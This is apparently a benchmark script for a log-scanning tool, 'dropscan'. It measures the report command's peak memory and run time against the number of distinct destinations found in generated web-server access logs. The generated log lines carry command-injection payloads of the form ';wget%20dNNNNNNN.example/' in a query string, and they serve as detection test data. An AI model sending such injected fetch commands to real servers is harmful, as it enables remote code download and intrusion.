"""Peak memory of ``dropscan report`` against the number of distinct destinations in the logs.

    .venv/bin/python benchmarks/report_memory.py [--sizes 10000 100000 1000000] [--unbounded]

The attacker chooses how many destinations the logs name. The scan takes the destinations of
at most `dropscan.detect.match.MAX_MATCHES_PER_VIEW` (64) matches of a pattern on a line (the line is
then also an ``unscanned`` finding), so each request line here carries 64
``;wget%20dNNNNNNN.example/`` commands: 1 M destinations take 15,625 requests. Each size is
written to benchmarks/data/ (git-ignored) and reported on by a fresh process
(``dropscan report LOG -f json -o /dev/null``), whose peak RSS is read from ``wait4``.
``--unbounded`` lifts the per-host cap (`dropscan.report.egress_report.MAX_DESTINATIONS`) to show what the
cap saves.
"""

from __future__ import annotations

import argparse
import os
import subprocess
import sys
import time
from pathlib import Path

from dropscan.detect.match import MAX_MATCHES_PER_VIEW

DATA = Path(__file__).resolve().parent / "data"

PER_LINE = MAX_MATCHES_PER_VIEW  # commands per request line (~1.6 KB): every one yields its destination


def write_log(path: Path, destinations: int) -> None:
    with open(path, "w") as f:
        for start in range(0, destinations, PER_LINE):
            cmds = "".join(f";wget%20d{i:07d}.example/" for i in range(start, min(start + PER_LINE, destinations)))
            f.write(
                f'198.51.100.7 - - [27/Nov/2026:10:00:00 +0000] "GET /x?c={cmds} HTTP/1.1" 404 1 "-" "Mozilla/5.0"\n'
            )


def peak_rss(log: Path, unbounded: bool) -> tuple[float, float]:
    """(peak RSS in MiB, wall seconds) of one ``dropscan report`` process."""
    code = "import dropscan.report.egress_report as r; r.MAX_DESTINATIONS = 10**12; " if unbounded else ""
    code += "from dropscan.cli import main; main()"
    args = [sys.executable, "-c", code, "report", str(log), "-f", "json", "-o", "/dev/null", "--jobs", "1"]
    t = time.perf_counter()
    proc = subprocess.Popen(args, stdout=subprocess.DEVNULL)
    _pid, status, usage = os.wait4(proc.pid, 0)
    wall = time.perf_counter() - t
    if os.waitstatus_to_exitcode(status) != 1:  # findings
        raise SystemExit(f"dropscan report exited {os.waitstatus_to_exitcode(status)} on {log}")
    return usage.ru_maxrss / 1024, wall


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--sizes", type=int, nargs="+", default=[10_000, 100_000, 1_000_000])
    ap.add_argument("--unbounded", action="store_true", help="lift the per-host cap (the behaviour before it)")
    a = ap.parse_args()
    DATA.mkdir(exist_ok=True)
    print(f"{'destinations':>12}  {'log MB':>7}  {'peak RSS MiB':>12}  {'wall s':>6}")
    for n in a.sizes:
        log = DATA / f"destinations-{n}.log"
        if not log.exists():
            write_log(log, n)
        rss, wall = peak_rss(log, a.unbounded)
        print(f"{n:>12,}  {log.stat().st_size / 1e6:>7.1f}  {rss:>12.1f}  {wall:>6.1f}")


if __name__ == "__main__":
    main()
